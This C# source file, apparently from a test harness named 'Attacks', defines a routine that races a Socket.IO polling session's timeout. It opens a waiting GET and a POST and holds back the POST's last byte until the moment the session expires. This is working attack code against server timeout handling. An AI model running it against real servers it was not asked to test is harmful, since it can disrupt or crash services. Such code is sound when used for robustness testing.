using Attacks.Clients;

namespace Attacks.Table;

/// <summary>A waiting GET, and a POST whose last byte comes in the moment in which the session's time is over.</summary>
internal static class PostAbort
{
    public static async Task<long> OneAsync(string url, TimeSpan connectTimeout)
    {
        long sent = 0;
        await RawConnection.Quietly(async () =>
        {
            string sid;
            try
            {
                sid = await HttpAttacks.HandshakeAsync(url);
            }
            catch (Exception e) when (e is HttpRequestException or TaskCanceledException)
            {
                await Task.Delay(50);
                return;
            }

            var born = TimeProvider.System.GetTimestamp();
            var path = $"/socket.io/?EIO=4&transport=polling&sid={sid}";
            using var get = await RawConnection.OpenAsync(url);
            using var post = await RawConnection.OpenAsync(url);
            var readings = Task.WhenAll(get.DrainAsync(), post.DrainAsync());
            await get.SendAsync($"GET {path} HTTP/1.1\r\nHost: a\r\n\r\n");
            await post.SendAsync($"POST {path} HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain;charset=UTF-8\r\nContent-Length: 2\r\n\r\n6");
            var left = connectTimeout - TimeProvider.System.GetElapsedTime(born) + TimeSpan.FromMilliseconds((Random.Shared.NextDouble() * 16) - 8);
            if (left > TimeSpan.Zero)
                await Task.Delay(left);
            await post.SendAsync("6");
            await Task.Delay(30);
            sent = get.Sent + post.Sent;
        });
        return sent;
    }
}
